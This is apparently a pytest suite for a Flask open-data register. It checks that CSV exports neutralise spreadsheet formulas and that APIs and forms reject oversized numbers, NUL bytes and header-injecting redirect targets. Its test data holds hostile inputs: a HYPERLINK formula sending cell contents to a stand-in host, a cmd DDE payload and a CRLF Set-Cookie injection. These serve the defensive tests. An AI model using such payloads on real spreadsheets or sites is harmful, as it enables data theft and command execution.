"""What an attacker sends the open data and the pages: text that a spreadsheet would run as a formula,
numbers too large for the database, characters a header or a database cannot hold. Every answer is
a 400 (problem+json under /api, an error page elsewhere) or an inert file, never a 500."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from flask.testing import FlaskClient
from sqlalchemy import text

from tests.db.fixtures import Register

pytestmark = pytest.mark.engines("memory", "postgresql")  # the database is not the point: in memory (fast tier)

FORMULAS = ("=", "+", "-", "@", "\t", "\r")


def _cells(client: FlaskClient, path: str) -> list[str]:
    response = client.get(path)
    assert response.status_code == 200 and response.mimetype == "text/csv"
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True), newline="")))
    return [c for row in rows[1:] for c in row]


@pytest.mark.engines("sqlite", "postgresql")  # reads the database's tables
def test_csv_cells_never_start_a_formula(client: FlaskClient, register: Register) -> None:
    """A site name ``=HYPERLINK(…)`` and a planning reference ``=1+1`` reach every CSV as text."""
    from bng.register.allocations.service import Development, Request

    world, s = register.world, register.services
    assert world is not None
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with register.database.engine.begin() as conn:
        conn.execute(
            text("UPDATE gain_site SET name = :name WHERE reference = :ref"), {"name": hostile, "ref": world.site}
        )
        conn.execute(text("UPDATE habitat_parcel SET ref = '@SUM(' || ref || ')' WHERE stage = 'creation'"))
    hedge = next(p for p in s.register.site(world.site).parcels if p.module == "hedgerow" and p.stage == "creation")
    assert hedge.id is not None
    for i, (reference, name) in enumerate((("=1+1", "+cmd|' /C calc'!A0"), ("-2+3", "@SUM(A1:A9)"))):
        s.allocations.allocate(
            world.actors["landowner"],
            world.site,
            Development(world.lpa_ids["Cambridge LPA"], reference, name, "546000, 259000"),
            [Request(hedge.id, Decimal("0.01") * (i + 1))],
        )
    seen = []
    for path in ("/api/v1/sites.csv", "/api/v1/parcels.csv", "/api/v1/allocations.csv"):
        cells = _cells(client, path)
        numbers = {c for c in cells if c.lstrip("-").replace(".", "", 1).replace("e-", "", 1).isdigit()}
        assert [c for c in cells if c.startswith(FORMULAS) and c not in numbers] == [], path
        seen += cells
    # the text is all there, only made inert: an apostrophe a spreadsheet shows as text
    for value in (hostile, "@SUM(1)", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"):
        assert "'" + value in seen
    # negative numbers stay numbers (no site has one, so a cell of ours proves the rule)
    from bng.web.api.formats import cell

    assert cell(-2.5) == -2.5 and cell("-2.5") == "'-2.5" and cell("\r=1") == "'\r=1" and cell(None) == ""


HUGE = "9" * 26


@pytest.mark.parametrize(
    "query",
    [
        f"page={HUGE}",
        "page=0",
        "page=²",
        f"per_page=0{HUGE}x",
        "min_units=1e308",
        "min_units=-1",
        f"responsible_body={HUGE}",
        "responsible_body=%D9%A1",  # an Arabic-Indic digit: a digit to str.isdigit, not to the register
        "distance_km=1e999&near=TL4600059000",
        "bbox=1e308,1,2,3",
        "near=TL" + "4" * 5000,
        "reference=%00",
        "module=",
    ],
)
@pytest.mark.parametrize("path", ["/api/v1/sites", "/api/v1/sites.csv", "/api/v1/sites.geojson"])
def test_the_site_api_answers_bad_numbers_with_a_problem(client: FlaskClient, path: str, query: str) -> None:
    response = client.get(f"{path}?{query}")
    assert response.status_code == 400, (query, response.status_code)
    assert response.mimetype == "application/problem+json"
    problem = response.get_json()
    assert problem["status"] == 400 and problem["title"]


@pytest.mark.engines("sqlite", "postgresql")  # open data: kept only by the databases
@pytest.mark.parametrize("query", [f"page={HUGE}", "page=-3", f"per_page={HUGE}x", "site=%00", "stage="])
@pytest.mark.parametrize("path", ["/api/v1/parcels", "/api/v1/allocations.csv", "/api/v1/parcels.geojson"])
def test_every_list_and_download_refuses_them_too(client: FlaskClient, path: str, query: str) -> None:
    response = client.get(f"{path}?{query}")
    if query == "stage=" and "allocations" in path:
        assert response.status_code == 200  # allocations have no stage: an unknown parameter is ignored
        return
    assert response.status_code == 400 and response.mimetype == "application/problem+json", query


def test_more_per_page_than_the_most_is_cut_not_refused(client: FlaskClient) -> None:
    page = client.get(f"/api/v1/sites?per_page={HUGE}").get_json()
    assert page["per_page"] == 100
    assert client.get(f"/api/v1/sites.csv?per_page={HUGE}").status_code == 200


@pytest.mark.parametrize(
    "query", [f"page={HUGE}", "min_units=1e308", f"responsible_body={HUGE}", "page=abc", "reference=a%00b"]
)
def test_the_search_page_answers_them_with_an_error_page(client: FlaskClient, query: str) -> None:
    response = client.get(f"/register?{query}")
    assert response.status_code == 400 and response.mimetype == "text/html", query


def test_the_audit_log_and_record_ids(client: FlaskClient, register: Register) -> None:
    from tests.web.fixtures import CheckedClient

    assert isinstance(client, CheckedClient)
    client.sign_in("case_worker")
    assert client.get(f"/admin/audit?page={HUGE}").status_code == 400
    for path in (f"/files/{HUGE}", f"/admin/responsible-bodies/{HUGE}/withdraw", "/files/2147483648"):
        assert client.get(path).status_code == 404, path
    assert client.get("/files/2147483647").status_code == 404  # the largest id: simply not there


def test_a_number_too_large_in_a_form_is_a_400(client: FlaskClient, register: Register) -> None:
    """Form fields reach the services as numbers too (an LPA id): the database's overflow is the client's
    mistake, said as such, not a 500."""
    from tests.web.fixtures import CheckedClient

    world = register.world
    assert world is not None and isinstance(client, CheckedClient)
    client.sign_in("developer")
    start = f"/register/{world.site}/allocate"
    data = {"lpa_id": HUGE, "planning_reference": "26/1/FUL", "development_name": "Homes"}
    data |= {"grid_reference": "546000, 259000", "method": "metric", "metric_file_id": HUGE}
    response = client.form(start, data, start)
    assert response.status_code == 400


@pytest.mark.parametrize("next_", ["/applications%0d%0aSet-Cookie:%20x=1", "/%0aevil", "/\\evil.example", "/a%00b"])
def test_a_next_address_with_a_line_break_is_ignored(client: FlaskClient, next_: str) -> None:
    from tests.register.world import EMAILS, PASSWORD
    from tests.web.fixtures import CheckedClient

    assert isinstance(client, CheckedClient)
    data = {"csrf_token": client.csrf(), "email": EMAILS["landowner"], "password": PASSWORD}
    response = client.post(f"/sign-in?next={next_}", data=data)
    if "%00" in next_:
        assert response.status_code == 400  # a NUL anywhere is refused before anything reads it
        return
    assert response.status_code == 302 and response.headers["Location"] == "/applications"
    assert "Set-Cookie: x" not in str(response.headers)


def test_a_method_the_api_does_not_answer_says_which_it_does(client: FlaskClient) -> None:
    response = client.post("/api/v1/sites")
    assert response.status_code == 405 and response.mimetype == "application/problem+json"
    assert set(response.headers["Allow"].replace(" ", "").split(",")) >= {"GET", "HEAD"}
    missing = client.get("/api/v1/sites/BGS-000000999")
    assert missing.status_code == 404 and missing.mimetype == "application/problem+json"
